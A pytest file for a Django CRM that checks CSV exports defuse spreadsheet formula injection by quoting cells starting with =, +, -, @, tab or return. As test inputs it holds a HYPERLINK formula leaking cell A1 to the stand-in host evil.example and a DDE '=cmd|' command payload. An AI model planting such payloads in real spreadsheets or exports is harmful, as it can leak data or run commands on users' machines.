"""CSV formula injection: every CSV the product exports neutralizes formula cells (OWASP)."""

from __future__ import annotations

import csv
import io

import pytest
from django.urls import reverse

from crm.spreadsheet import safe_cell
from dedup.services import run_dedup
from tests.factories import PersonFactory

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")'
CMD_EMAIL = "=cmd|'/ccalc'!a0@x.example"


@pytest.mark.parametrize("value", ["=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx", " =1+1",
                                   HYPERLINK, CMD_EMAIL])
def test_formula_cells_are_prefixed_with_a_quote(value):
    assert safe_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["ann@example.com", "u-1", "1", "", None, "a=b"])
def test_other_cells_are_left_as_they_are(value):
    assert safe_cell(value) == ("" if value is None else value)


@pytest.mark.django_db
def test_the_dedup_report_csv_has_no_formula_cell(admin_client):
    PersonFactory(email=CMD_EMAIL, user_id=HYPERLINK)
    PersonFactory(email=CMD_EMAIL.upper(), user_id="u-2")
    PersonFactory(email="-ann@example.com")
    PersonFactory(email="-ANN@example.com")
    run = run_dedup(dry_run=True)

    response = admin_client.get(reverse("admin:dedup_deduprun_report_csv", args=[run.pk]))
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))

    cells = [cell for row in rows for cell in row]
    assert not [cell for cell in cells if cell.lstrip(" ").startswith(("=", "+", "-", "@",
                                                                        "\t", "\r"))]
    assert any(cell == "'" + CMD_EMAIL.lower() for cell in cells)
    assert any(HYPERLINK in cell and cell.startswith("'") for cell in cells)
